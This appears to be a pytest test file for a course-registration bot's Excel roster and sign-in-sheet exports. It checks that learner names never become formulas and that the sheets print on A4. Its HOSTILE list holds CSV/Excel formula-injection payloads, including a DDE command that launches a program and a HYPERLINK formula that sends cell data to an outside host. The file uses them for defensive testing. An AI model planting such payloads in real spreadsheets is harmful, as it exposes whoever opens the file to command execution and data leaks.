"""The roster on paper: exports hold no formula, whoever is in them, and the sign-in sheet is large and fits A4."""

import io
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from handlers.roster_files import LARGE, roster_file, sheet_file
from handlers.texts import ENGLISH, VIETNAMESE, Texts
from schedules.clock import StillClock
from storage.centres import Centre
from storage.contacts import Contact
from storage.courses import Course
from storage.database import Database
from storage.learners import Learner, Relation
from storage.lessons import Lesson
from storage.registrations import Registration, Standing
from storage.roster import Person
from tests.classes import Class, at
from tests.organizing import organizer
from tests.town import Town, living, signs_up

NOW = datetime(2026, 11, 23, 1, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://x.vn?"&A1,"ok")',
    "+84909=1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|'/C calc'!A0",
    "Lan\x00\x07\ufffe",
    "x" * 80,
    "<b>An</b> & \u202egnart",
)


@pytest.fixture
async def town(database: Database, clock: StillClock) -> AsyncIterator[Town]:
    async with living(database, clock) as town:
        await town.publishes(Class(starts=(at(25, 8, 30), at(27, 8, 30))))
        yield town


def person(number: int, name: str, *, seated: bool = True) -> Person:
    registration = Registration(
        id=number, course_id=1, learner_id=number, standing=Standing.SEATED if seated else Standing.WAITING
    )
    registration.created_at = NOW
    learner = Learner(id=number, contact_id=number, relation=Relation.CHILD, name=name, under_16=True)
    contact = Contact(id=number, chat_name=name, neighbourhood=name, phone=name[:20])
    return Person(registration, learner, contact, name, name, is_reachable=False, is_by_hand=True)


def course_of(title: str) -> tuple[Course, Lesson]:
    lesson = Lesson(id=1, course_id=1, number=1, starts_at=NOW, ends_at=NOW.replace(hour=3), venue=title)
    course = Course(id=1, code="L101", title=title, centre=Centre(ward=title), capacity=20, taken=0)
    course.lessons = [lesson]
    return course, lesson


def read(content: bytes) -> Workbook:
    """As somebody opens it; no cell is a formula, and none would become one."""
    workbook = load_workbook(io.BytesIO(content))
    for row in workbook.worksheets[0].iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), cell
            if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix, cell
    assert workbook.defined_names == {}
    return workbook


def values(workbook: Workbook, row: int) -> list[object]:
    return [cell.value for cell in workbook.worksheets[0][row]]


@pytest.mark.parametrize("texts", [VIETNAMESE, ENGLISH], ids=["vi", "en"])
def test_no_name_is_a_formula(texts: Texts) -> None:
    people = [person(number, name, seated=number < 6) for number, name in enumerate(HOSTILE, 1)]
    course, lesson = course_of(HOSTILE[0])
    read(roster_file(texts, people, [lesson], {(1, 1)}))
    read(sheet_file(texts, course, lesson, people))


def test_the_guard_is_needed() -> None:
    """As openpyxl takes it by itself, the first of these is a formula."""
    workbook = Workbook()
    workbook.worksheets[0].cell(1, 1).value = HOSTILE[0]
    kept = io.BytesIO()
    workbook.save(kept)
    with pytest.raises(AssertionError):
        read(kept.getvalue())


def test_everyone_has_a_row() -> None:
    _, lesson = course_of("Zalo")
    people = [person(1, "Nguyễn Thị Lan"), person(2, "Bé An", seated=False)]
    workbook = read(roster_file(VIETNAMESE, people, [lesson], {(1, 1)}))
    assert values(workbook, 1)[:3] == ["STT", "Họ và tên", "Tình trạng"]
    assert values(workbook, 1)[-1] == "Buổi thứ Hai 23/11"
    assert values(workbook, 2) == [
        1,
        "Nguyễn Thị Lan",
        "có chỗ",
        "con của Nguyễn Thị Lan",
        "có",
        "Nguyễn Thị Lan",
        "Nguyễn Thị Lan",
        "Nguyễn Thị Lan",
        "phải gọi điện",
        "23/11/2026 08:00",
        "có mặt",
    ]
    assert values(workbook, 3)[:3] == [2, "Bé An", "chờ, thứ 1"]
    assert workbook.worksheets[0].freeze_panes == "C2"


@pytest.mark.parametrize("names", [(), ("Nguyễn Thị Lan", "Công Tằng Tôn Nữ Thị Ngọc Hương Giang")])
def test_the_sign_in_sheet_is_large_and_fits(names: Sequence[str]) -> None:
    course, lesson = course_of("Zalo")
    people = [person(number, name) for number, name in enumerate(names, 1)]
    page = read(sheet_file(VIETNAMESE, course, lesson, people)).worksheets[0]
    assert page["A1"].value == "DANH SÁCH KÝ TÊN: ZALO"
    assert page["A2"].value == "Thứ Hai 23/11, 8:00–10:00 · Zalo, Zalo"
    assert [cell.value for cell in page[4]] == ["STT", "Họ và tên", "Tổ", "Ký tên"]
    assert page.max_row == 4 + len(names) + 10
    assert all(cell.font.size >= LARGE for row in page.iter_rows(min_row=4) for cell in row)
    assert (page.page_setup.paperSize, page.page_setup.fitToWidth, page.page_setup.fitToHeight) == (9, 1, 0)
    assert page.sheet_properties.pageSetUpPr is not None
    assert page.sheet_properties.pageSetUpPr.fitToPage
    assert page.print_title_rows == "$4:$4"
    assert sum(page.column_dimensions[one].width for one in "ABCD") <= 100


async def test_an_organizer_gets_the_files(town: Town) -> None:
    for name in ("Nguyễn Thị Lan", "Trần Ba"):
        await signs_up(town.resident(name), "L101", name)
    minh = await organizer(town, "Minh", "Đa Kao")
    await minh.says("/danhsach L101")
    sent = await minh.taps("Tệp Excel")
    assert "📄 Danh sách lớp Zalo cho người cao tuổi: 2 người." in sent.text
    assert sent.file is not None
    assert sent.file.name == "danh-sach-L101.xlsx"
    assert [row[1] for row in read(sent.file.content).worksheets[0].iter_rows(min_row=2, values_only=True)] == [
        "Nguyễn Thị Lan",
        "Trần Ba",
    ]
    await minh.says("/phieuky L101")
    sheet = await minh.taps("Buổi thứ Sáu 27/11")
    assert "🖨 Phiếu ký tên lớp Zalo cho người cao tuổi, thứ Sáu 27/11." in sheet.text
    assert sheet.file is not None
    read(sheet.file.content)
    assert "bạn đã lấy danh sách lớp L101" in (await minh.says("/nhatky")).text
